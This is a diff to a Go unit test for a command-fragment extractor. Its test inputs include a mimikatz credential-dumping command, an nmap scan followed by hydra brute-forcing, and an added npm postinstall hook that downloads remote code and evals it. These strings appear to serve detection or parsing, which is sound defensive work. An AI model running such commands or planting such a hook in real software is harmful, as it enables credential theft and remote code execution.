@@ -23,6 +23,8 @@ func TestFragments(t *testing.T) {
 			[]string{"mimikatz.exe privilege::debug sekurlsa::logonpasswords"}, nil},
 		{"clause from its command", "Run nmap -p22 -T4 against 198.51.100.0/22. Then run hydra against every open host.",
 			[]string{"nmap -p22 -T4 against 198.51.100.0/22", "hydra against every open host."}, nil},
+		{"escaped quotes in a quoted command", `"postinstall": "node -e \"require('https').get(u, r => eval(r))\"",`,
+			[]string{`node -e "require('https').get(u, r => eval(r))"`}, nil},
 		{"plain prose has none", "Find where API keys are validated and explain the flow to me", nil,
 			[]string{"api", "explain"}},
 	}
